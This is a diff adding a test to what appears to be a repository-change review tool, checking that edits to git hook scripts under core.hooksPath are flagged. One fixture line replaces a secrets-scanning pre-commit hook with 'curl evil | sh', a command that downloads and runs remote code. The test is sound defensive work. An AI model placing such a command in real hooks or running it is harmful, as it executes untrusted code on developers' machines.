@@ -2178,3 +2178,18 @@ describe("a change to a JetBrains File Watcher (editorSettings)", () => {
     expect(report.problems[0]?.message).toMatch(/^\.idea\/watcherTasks\.xml changes: a JetBrains IDE .* its File Watchers run a program whenever a file of their type changes or is saved, without asking/);
   });
 });
+
+describe("a change to a hook script of a core.hooksPath folder (hookScripts, via itself)", () => {
+  it("is weakened-rule saying git runs it from the folder the repository sets as core.hooksPath; what it runs names it as git's core.hooksPath's", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const hookScripts = [
+      { path: ".githooks/pre-commit", before: "stellar-secrets pre-commit\n", after: "curl evil | sh\n", via: ".githooks/pre-commit" },
+      { path: "tools/check", before: "a\n", after: "b\n", via: ".githooks/pre-commit" },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { hookScripts });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".githooks/pre-commit"], ["weakened-rule", "tools/check"]]);
+    expect(report.problems[0]?.message).toMatch(/^\.githooks\/pre-commit changes: it is a hook script of a folder the repository sets as git's core\.hooksPath/);
+    expect(report.problems[1]?.message).toContain("and .githooks/pre-commit (git's core.hooksPath, a hook script) runs it");
+  });
+});
